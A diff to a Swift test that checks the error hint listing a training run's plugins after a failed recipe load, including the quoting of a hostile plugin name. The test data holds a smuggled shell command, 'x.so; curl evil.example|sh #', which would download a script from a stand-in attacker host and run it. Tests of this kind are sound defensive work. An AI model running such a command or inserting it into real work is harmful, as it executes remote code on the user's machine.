@@ -99,10 +99,13 @@ import Testing
         let json = try JSONEncoder().encode(Description(data: DatasetInfoFile(info), plugins: plugins))
         try place.write("run.json", String(decoding: json, as: UTF8.self))
         let error = #expect(throws: RunError.self) { _ = try RunNetworks(place.folder.path).recipe() }
-        let hint = try #require(error?.description.split(separator: "\n").last)
+        let failure = CommandFailure(try #require(error))
+        let hint = try #require(failure.description.split(separator: "\n").last)
         #expect(
             hint.hasPrefix(
-                "the run was trained with --plugin 'x.so; curl evil.example|sh #' --plugin 0.so --plugin 1.so "))
+                "  fix: load the plugins of its training: --plugin 'x.so; curl evil.example|sh #' --plugin 0.so --plugin 1.so "
+            ))
         #expect(hint.hasSuffix(" --plugin 6.so …"))
+        #expect(error?.description.hasSuffix(", 6.so, …") == true && error?.description.contains("--plugin") == false)
     }
 }
